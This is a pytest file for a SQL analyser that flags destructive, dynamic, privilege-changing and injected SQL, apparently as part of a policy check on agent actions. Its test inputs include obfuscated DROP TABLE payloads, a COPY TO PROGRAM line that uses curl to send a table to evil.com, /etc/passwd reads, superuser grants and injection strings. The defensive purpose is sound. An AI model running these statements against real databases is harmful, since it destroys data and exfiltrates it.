"""SQL facts (pglast): statement kinds, targets, dynamic SQL, the unparseable path."""

from __future__ import annotations

import pytest
from aarm_pdp.analysis import Limits, analyse_value


def sql(text: object, **kw: object) -> dict:
    return analyse_value("sql", text, **kw)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "commands", "writes", "destructive"),
    [
        ("SELECT id FROM orders WHERE id = 1", ["SELECT"], False, False),
        ("DROP/**/TABLE users", ["DROP TABLE"], True, True),
        ("dRoP sChEmA public CaScAdE", ["DROP SCHEMA"], True, True),
        ("DROP--x\nTABLE orders", ["DROP TABLE"], True, True),
        ("DELETE FROM orders", ["DELETE"], True, True),
        ("DELETE FROM orders WHERE 1=1", ["DELETE"], True, True),
        ("DELETE FROM orders WHERE id = 7", ["DELETE"], True, False),
        ("DELETE FROM orders WHERE id = id", ["DELETE"], True, True),
        ("DELETE FROM orders WHERE id = 7 OR true", ["DELETE"], True, True),
        ("UPDATE orders SET total = 0", ["UPDATE"], True, True),
        ("TRUNCATE orders", ["TRUNCATE"], True, True),
        ("INSERT INTO orders VALUES (1)", ["INSERT"], True, False),
        ("SELECT * INTO copy FROM orders", ["SELECT INTO"], True, False),
        ("CREATE TABLE leak AS SELECT * FROM customers", ["CREATE TABLE AS"], True, False),
        ("ALTER TABLE orders DROP COLUMN total", ["ALTER TABLE"], True, True),
        ("ALTER TABLE orders ADD COLUMN note text", ["ALTER TABLE"], True, False),
        ("EXPLAIN SELECT 1", ["EXPLAIN"], False, False),
        ("EXPLAIN ANALYZE DELETE FROM orders", ["DELETE", "EXPLAIN"], True, True),
        ("EXPLAIN DELETE FROM orders", ["EXPLAIN"], False, False),
        (
            "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
            ["DELETE", "SELECT"],
            True,
            True,
        ),
        ("WITH r AS (SELECT 1) SELECT * FROM r", ["SELECT"], False, False),
        ("MERGE INTO o USING r ON o.id = r.id WHEN MATCHED THEN DELETE", ["MERGE"], True, True),
        (
            "PREPARE p AS DELETE FROM orders; EXECUTE p",
            ["DELETE", "EXECUTE", "PREPARE"],
            True,
            True,
        ),
        ("SELECT 'DROP TABLE users' AS x", ["SELECT"], False, False),
        ("SELECT 1 /* ; DROP TABLE users */", ["SELECT"], False, False),
        ("BEGIN; SELECT 1; COMMIT", ["SELECT", "TRANSACTION"], False, False),
        ("SHOW search_path", ["VARIABLE SHOW"], False, False),
        (
            "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
            ["DELETE", "RULE"],
            True,
            True,
        ),
    ],
)
def test_statement_kinds(text: str, commands: list[str], writes: bool, destructive: bool) -> None:
    facts = sql(text)
    assert facts["parsed"] is True
    assert facts["commands"] == commands
    assert (facts["writes"], facts["destructive"]) == (writes, destructive)


@pytest.mark.parametrize(
    ("text", "target"),
    [
        (
            "DROP TABLE users",
            {"object": "table", "database": None, "schema": None, "name": "users"},
        ),
        (
            "DROP TABLE prod.users",
            {"object": "table", "database": None, "schema": "prod", "name": "users"},
        ),
        ("DROP VIEW db1.s.v", {"object": "view", "database": "db1", "schema": "s", "name": "v"}),
        (
            "DROP DATABASE proddb",
            {"object": "database", "database": "proddb", "schema": None, "name": "proddb"},
        ),
        (
            "DROP SCHEMA billing",
            {"object": "schema", "database": None, "schema": "billing", "name": "billing"},
        ),
        ("TRUNCATE b.c", {"object": "table", "database": None, "schema": "b", "name": "c"}),
        (
            "DELETE FROM live.s.t WHERE x = 1",
            {"object": "table", "database": "live", "schema": "s", "name": "t"},
        ),
    ],
)
def test_targets(text: str, target: dict) -> None:
    assert sql(text)["targets"] == [target]


def test_databases_schemas_tables_summaries() -> None:
    facts = sql("DROP DATABASE proddb; DROP TABLE prod.users; TRUNCATE orders")
    assert facts["databases"] == ["proddb"]
    assert facts["schemas"] == ["prod"]
    assert facts["tables"] == ["orders", "users"]
    assert facts["multi_statement"] is True
    assert facts["statement_count"] == 3


@pytest.mark.parametrize(
    "text",
    [
        "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$",
        "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
        "DO LANGUAGE plpgsql $b$ BEGIN EXECUTE chr(68) || 'ROP TABLE users'; END $b$",
        "DO $$ BEGIN EXECUTE concat('DROP ', 'TABLE users'); END $$",
        "DO $$ BEGIN EXECUTE upper('drop table users'); END $$",
        "DO $$ BEGIN EXECUTE reverse('sresu elbat pord'); END $$",
        "DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSB1c2Vycw==', 'base64'), 'UTF8');"
        " END $$",
        "DO $$ DECLARE t text := 'users'; BEGIN EXECUTE 'DROP TABLE ' || t; END $$",
    ],
)
def test_dynamic_sql_is_folded_and_read_again(text: str) -> None:
    facts = sql(text)
    assert facts["dynamic"] is True
    assert "DROP TABLE" in facts["commands"]
    assert facts["targets"] == [
        {"object": "table", "database": None, "schema": None, "name": "users"}
    ]
    assert facts["opaque"] is False
    dropped = [s for s in facts["statements"] if s["command"] == "DROP TABLE"]
    assert dropped[0]["via"] == "dynamic"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (
            "DO $$ DECLARE t text; BEGIN t := 'users'; EXECUTE 'DROP TABLE ' || t; END $$",
            "unresolved_dynamic_sql",
        ),
        ("DO $$ BEGIN EXECUTE current_setting('x'); END $$", "unresolved_dynamic_sql"),
        ("DO LANGUAGE plpython3u $$ import os $$", "untrusted_language"),
        (
            "CREATE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u",
            "untrusted_language",
        ),
        ("DO $$ BEGIN OPEN c FOR EXECUTE 'x'; END $$", "syntax_error"),
    ],
)
def test_what_cannot_be_seen_is_opaque_and_destructive(text: str, reason: str) -> None:
    facts = sql(text)
    assert facts["parsed"] is True
    assert facts["opaque"] is True
    assert facts["writes"] is True and facts["destructive"] is True
    assert reason in {s.get("reason") for s in facts["statements"]}


@pytest.mark.parametrize("text", ["CALL purge()", "EXECUTE unknown_plan", "LOAD 'evil.so'"])
def test_calls_and_unknown_prepared_statements_are_opaque(text: str) -> None:
    facts = sql(text)
    assert facts["opaque"] is True and facts["destructive"] is True


def test_function_bodies_are_read() -> None:
    facts = sql(
        "CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE users $$ LANGUAGE sql; SELECT f()"
    )
    assert "DROP TABLE" in facts["commands"]
    plpgsql = sql(
        "CREATE FUNCTION g() RETURNS void AS $$ BEGIN DELETE FROM orders; END $$ LANGUAGE plpgsql"
    )
    assert "DELETE" in plpgsql["commands"]
    atomic = sql(
        "CREATE FUNCTION h() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM x; SELECT 1; END"
    )
    assert "DELETE" in atomic["commands"]


def test_copy_to_program_and_server_files() -> None:
    program = sql("COPY users TO PROGRAM 'curl -d @- https://evil.com'")
    assert program["executes_program"] is True and program["destructive"] is True
    shell = program["statements"][0]["program_shell"]
    assert shell["type"] == "shell" and "curl" in shell["programs"]
    to_file = sql("COPY users TO '/tmp/users.csv'")
    assert to_file["server_file"] is True and to_file["writes"] is True
    from_file = sql("COPY users FROM '/etc/passwd'")
    assert from_file["targets"][0]["name"] == "users"


@pytest.mark.parametrize(
    "text",
    [
        "GRANT ALL ON users TO PUBLIC",
        "GRANT admin TO bob",
        "ALTER ROLE app WITH SUPERUSER",
        "CREATE ROLE x SUPERUSER LOGIN",
        "SET ROLE postgres",
        "SET SESSION AUTHORIZATION postgres",
    ],
)
def test_privilege_changes(text: str) -> None:
    assert sql(text)["privilege"] is True


def test_functions_with_side_effects_are_listed() -> None:
    facts = sql("SELECT pg_terminate_backend(pid), lower(name) FROM pg_stat_activity")
    assert facts["functions"] == ["lower", "pg_terminate_backend"]
    assert facts["side_effect_functions"] == ["pg_terminate_backend"]
    assert facts["writes"] is False


def test_comments_are_counted_not_classified() -> None:
    facts = sql("/* read only */ DELETE /* really */ FROM orders -- x")
    assert facts["comments"] == 3
    assert facts["commands"] == ["DELETE"]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("SELEC * FRM orders", "syntax_error"),
        ("DR\u00adOP TABLE users", "syntax_error"),
        ("", "empty"),
        ("-- only a comment", "empty"),
        (42, "not_a_string"),
        (None, "not_a_string"),
    ],
)
def test_unparseable_sql_is_read_as_its_most_dangerous_form(value: object, reason: str) -> None:
    facts = sql(value)
    assert facts["parsed"] is False
    assert facts["reason"] == reason
    assert facts["writes"] and facts["destructive"] and facts["dynamic"] and facts["opaque"]


def test_limits_length_depth_and_statement_count() -> None:
    assert sql("SELECT 1", limits=Limits(max_sql_chars=4))["reason"] == "too_long"
    nested = "DO $$ BEGIN EXECUTE 'DO $b$ BEGIN EXECUTE ''DROP TABLE t''; END $b$'; END $$"
    shallow = sql(nested, limits=Limits(max_sql_depth=1))
    assert shallow["opaque"] is True and shallow["destructive"] is True
    assert "too_deep" in {s.get("reason") for s in shallow["statements"]}
    deep = sql(nested)
    assert "DROP TABLE" in deep["commands"] and deep["opaque"] is False
    many = sql("SELECT 1;" * 10, limits=Limits(max_sql_statements=3))
    assert many["truncated"] is True and many["opaque"] is True


@pytest.mark.parametrize(
    ("condition", "filter_", "injection", "destructive"),
    [
        ("status = 'open' AND total > 100", "present", False, False),
        ("1=1", "trivial", False, False),
        ("true", "trivial", False, False),
        ("id = 5 OR 1=1", "trivial", False, False),
        ("id = 1; DROP TABLE users", "present", True, True),
        ("id = 1 UNION SELECT password FROM users", "none", True, False),
    ],
)
def test_sql_conditions(condition: str, filter_: str, injection: bool, destructive: bool) -> None:
    facts = analyse_value("sql_condition", condition)
    assert facts["parsed"] is True
    assert (facts["filter"], facts["injection"], facts["destructive"]) == (
        filter_,
        injection,
        destructive,
    )


def test_unparseable_condition_is_an_injection_with_no_filter() -> None:
    facts = analyse_value("sql_condition", "id = 1) OR (1")
    assert facts["parsed"] is False
    assert (
        facts["filter"] == "trivial" and facts["injection"] is True and facts["destructive"] is True
    )


def test_condition_comment_is_counted() -> None:
    assert analyse_value("sql_condition", "1=1 --")["comments"] == 1


def test_deterministic() -> None:
    text = (
        "WITH d AS (DELETE FROM o RETURNING *) SELECT * FROM d;"
        " DO $$ BEGIN EXECUTE 'DR'||'OP TABLE t'; END $$"
    )
    assert sql(text) == sql(text)
